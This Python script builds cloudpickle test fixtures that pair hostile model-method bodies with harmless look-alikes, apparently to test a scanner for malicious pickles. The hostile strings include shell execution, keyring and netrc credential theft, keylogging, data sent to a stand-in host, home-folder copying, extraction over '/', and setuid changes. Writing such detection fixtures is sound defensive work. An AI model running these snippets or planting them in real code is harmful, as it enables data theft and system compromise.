"""Pickles of classes whose methods do harm by means that no name of a program shows, and of what honest methods do with the same means, for
methods.json. Nothing in them is called while they are made. One Python at a time, as one entry of the JSON:
    (echo '{'; python3.8 make-methods.py; echo ,; python3.11 make-methods.py; echo ,; python3.13 make-methods.py; echo '}') > methods.json"""
import base64
import json
import sys
import textwrap
import zlib

import cloudpickle

HOSTILE = {
    # Branches
    'name of one branch': 'if x: from os import system as f\nelse: f = print\nreturn f("id")',
    'name that an exception replaces': 'try:\n  from os import system as f\nexcept ImportError: f = print\nreturn f("id")',
    'module of one branch': 'import math, os\nm = os\nif x: m = math\nreturn getattr(m, "sys" + "tem")("id")',
    # Hooks
    'settrace': 'import sys\nsys.settrace(self.f)',
    'import hook': 'import sys\nsys.meta_path.insert(0, self)',
    'path hook': 'import sys\nsys.path_hooks.append(self.f)',
    'addsitedir': 'import site\nsite.addsitedir("/tmp/x")',
    'referrers': 'import gc\nreturn gc.get_referrers(dict)',
    # Spies
    'keyring': 'import keyring\nreturn keyring.get_password("a", "b")',
    'screen': 'from PIL import ImageGrab\nreturn ImageGrab.grab()',
    'keyboard': 'from pynput.keyboard import Listener\nListener(on_press=self.f).start()',
    'netrc': 'import netrc\nreturn netrc.netrc().authenticators("example.com")',
    # Connections
    'log by HTTP': 'import logging.handlers\nlogging.handlers.HTTPHandler("192.0.2.1", "/x").emit(x)',
    'log by syslog': 'from logging.handlers import SysLogHandler\nSysLogHandler(address=("192.0.2.1", 514)).emit(x)',
    'listen for settings': 'import logging.config\nlogging.config.listen(9999).start()',
    'certificate': 'import ssl\nreturn ssl.get_server_certificate(("192.0.2.1", 443))',
    'connection of processes': 'from multiprocessing.connection import Client\nreturn Client(("192.0.2.1", 6000)).recv()',
    'event loop': 'import asyncio\nl = asyncio.new_event_loop()\nl.create_connection(asyncio.Protocol, "192.0.2.1", 80)',
    'messenger': 'import telegram\ntelegram.Bot("x").send_message(1, repr(x))',
    'unpickles a download': 'import pandas as pd\nreturn pd.read_pickle("http://example.com/a.pkl")',
    # Programs
    'event loop and shell': 'import asyncio\nl = asyncio.new_event_loop()\nl.subprocess_shell(asyncio.SubprocessProtocol, "id")',
    'container': 'import docker\ndocker.from_env().containers.run("alpine", "id")',
    'Tcl': 'import tkinter\ntkinter.Tcl().eval("exec id")',
    'R': 'import rpy2.robjects as ro\nro.r("system(\\"id\\")")',
    'COM': 'import win32com.client\nwin32com.client.Dispatch("WScript.Shell").Run("calc")',
    'cell of IPython': 'from IPython import get_ipython\nget_ipython().run_cell("!id")',
    'magic of IPython': 'get_ipython().run_line_magic("system", "id")',
    'extension of SQLite': 'import sqlite3\nsqlite3.connect(":memory:").load_extension("/tmp/x.so")',
    'custom operators': 'import onnxruntime\nonnxruntime.SessionOptions().register_custom_ops_library("/tmp/x.so")',
    'setup script': 'from distutils.core import run_setup\nrun_setup("/tmp/setup.py")',
    'notebook': 'import papermill\npapermill.execute_notebook("/tmp/a.ipynb", "/tmp/b.ipynb")',
    'expression of a table': 'return x.eval("@self.__class__.__init__.__globals__")',
    'classes of a builtin': 'return int.__base__.__subclasses__()',
    'breakpoint by environment': 'import os\nos.environ["PYTHONBREAKPOINT"] = "os.system"',
    'pager by environment': 'import os\nos.environ["PAGER"] = "id"',
    # Places
    'search of a home': 'import os\nreturn [f for _, _, f in os.walk(os.path.expanduser("~"))]',
    'search of all homes': 'import os\nreturn list(os.walk("/home"))',
    'search of paths': 'from pathlib import Path\nreturn list(Path.home().rglob("*.docx"))',
    'copy of a home': 'import os, shutil\nshutil.copytree(os.path.expanduser("~"), "/tmp/x")',
    'archive of a home': 'import os, shutil\nshutil.make_archive("/tmp/x", "zip", os.path.expanduser("~"))',
    'documents': 'import os, shutil\nshutil.move(os.path.expanduser("~/Documents"), "/tmp/x")',
    'unpack over the system': 'import tarfile\ntarfile.open("/tmp/a.tar").extractall("/")',
    'unpack over a home': 'import os, shutil\nshutil.unpack_archive("/tmp/a.zip", os.path.expanduser("~"))',
    'into a library': 'import torch\nopen(torch.__file__, "a").write("pass")',
    'setuid': 'import os\nos.chmod("/tmp/s", 0o4755)',
}

HARMLESS = {
    'function of one branch': 'import numpy as np\nif x is None: f = np.mean\nelse: f = np.median\nreturn f(self.m)',
    'library of one branch': 'try:\n  import ujson as json\nexcept ImportError:\n  import json\nreturn json.dumps(x)',
    'path of a branch': 'import os\nif os.name == "nt": p = os.path.join("C:", "data")\nelse: p = os.path.expanduser("~/data")\nreturn open(p).read()',
    'path of a loop': 'import os\np = None\nfor n in ("a", "b"):\n  p = os.path.join("/tmp", n)\n  if os.path.exists(p): break\nreturn p',
    'removes its own file': 'import os\nt = "/tmp/x"\ntry:\n  open(t, "w").write("a")\nfinally:\n  os.remove(t)',
    'mode of a branch': 'mode = "r"\nif x: mode = "w"\nwith open("out.txt", mode) as f: return f',
    'loggers': 'import logging.handlers, sys\nl = logging.getLogger("m")\nl.addHandler(logging.StreamHandler(sys.stdout))\nl.addHandler(logging.handlers.RotatingFileHandler("a.log"))',
    'search path': 'import sys\nsys.path.append("/home/me/project/src")',
    'hook for errors': 'import sys\nsys.excepthook = self.f',
    'collector': 'import gc, torch\ngc.collect()\nreturn [o.shape for o in gc.get_objects() if torch.is_tensor(o)]',
    'certificates': 'import ssl\nreturn ssl.create_default_context()',
    'walk of data': 'import os\nreturn [f for _, _, f in os.walk("/home/me/project/data")]',
    'glob in a home': 'import glob, os\nreturn glob.glob(os.path.expanduser("~/data/*.csv"))',
    'list of its folder': 'import os\nreturn os.listdir(os.path.dirname(__file__))',
    'cache in a home': 'import os, tarfile\ntarfile.open("a.tar.gz").extractall(os.path.expanduser("~/.cache/vocab"))',
    'unpack to a temporary folder': 'import tempfile, zipfile\nzipfile.ZipFile("a.zip").extractall(tempfile.mkdtemp())',
    'unpack here': 'import shutil\nshutil.unpack_archive("a.zip", "data")',
    'copy of a folder': 'import shutil\nshutil.copytree("a", "b")\nshutil.move("a.txt", "b/a.txt")\nreturn shutil.make_archive("/tmp/out", "zip", "runs")',
    'words like places': 's = set()\ns.add("~")\ns.add("/")\nreturn s',
    'file of a library': 'import os, sklearn\nreturn open(os.path.join(os.path.dirname(sklearn.__file__), "VERSION")).read()',
    'permissions': 'import os\nos.chmod("/tmp/cache", 0o755)',
    'query of a table': 'return x.query("a > 3 and b == @self.limit").eval("a + b")',
    'mode of a layer': 'self.m.eval()\nreturn self.m(x)',
    'magics that show': 'get_ipython().run_line_magic("matplotlib", "inline")\nget_ipython().run_line_magic("time", "f(x)")',
    'cell of a network': 'return self.m.run_cell(x, None)',
    'pickle of a path': 'import pandas as pd\nreturn pd.read_pickle("data.pkl")',
    'environment': 'import os\nos.environ["CUDA_VISIBLE_DEVICES"] = "0"\nreturn os.environ.get("EDITOR", "vi"), os.getenv("BROWSER")',
    'errors of a database': 'import psycopg2\ntry: return x()\nexcept psycopg2.OperationalError: return None',
    'names of classes': 'return [c.__name__ for c in type(self).__mro__], self.__class__.__subclasses__()',
    'optional libraries': 'try:\n  import keyring\nexcept ImportError: keyring = None\nreturn keyring is not None',
}


def dumped(bodies):
    made = {}
    for name, body in sorted(bodies.items()):
        space = {'__name__': 'made_here'}
        exec(compile('class M:\n  def predict(self, x=None):\n%s\nobj = M()\n' % textwrap.indent(body, '    '), '<cell>', 'exec'), space)
        space['M'].__module__ = '__main__'
        made[name] = cloudpickle.dumps(space['obj']).decode('latin-1')
    return made


def main():
    label = 'Python %d.%d' % sys.version_info[:2]
    data = json.dumps({'hostile': dumped(HOSTILE), 'harmless': dumped(HARMLESS)}, sort_keys=True)
    print('%s: %s' % (json.dumps(label), json.dumps(base64.b64encode(zlib.compress(data.encode('ascii'), 9)).decode('ascii'))))


if __name__ == '__main__':
    main()
